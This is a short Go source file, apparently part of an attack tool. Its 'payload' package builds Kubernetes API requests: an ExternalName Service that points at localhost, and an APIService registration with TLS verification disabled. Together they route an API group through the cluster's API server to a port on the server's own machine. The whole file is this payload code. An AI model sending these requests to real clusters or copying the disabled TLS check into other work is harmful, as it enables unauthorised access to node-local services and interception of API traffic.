package payload

import (
	"encoding/json"
	"fmt"
)

// BehindGroup is the group of another API server, and BehindPath where its version is.
const (
	BehindGroup = "behind.example.net"
	BehindPath  = "/apis/" + BehindGroup + "/v1"
)

// Behind puts an API server at a port of this machine behind another.
func Behind(port string) []Part {
	body, err := json.Marshal(object{
		"apiVersion": "v1", "kind": "Service", "metadata": object{"name": "behind"},
		"spec": object{"type": "ExternalName", "externalName": "localhost"},
	})
	if err != nil {
		panic(err) // it is made of values that can be written
	}
	return []Part{
		{Path: "/api/v1/namespaces/default/services", Body: body},
		{Path: "/apis/apiregistration.k8s.io/v1/apiservices", Body: fmt.Appendf(nil,
			`{"apiVersion":"apiregistration.k8s.io/v1","kind":"APIService","metadata":{"name":"v1.%s"},"spec":{"group":%q,"version":"v1",
			"groupPriorityMinimum":1000,"versionPriority":15,"insecureSkipTLSVerify":true,"service":{"namespace":"default","name":"behind","port":%s}}}`,
			BehindGroup, BehindGroup, port)},
	}
}
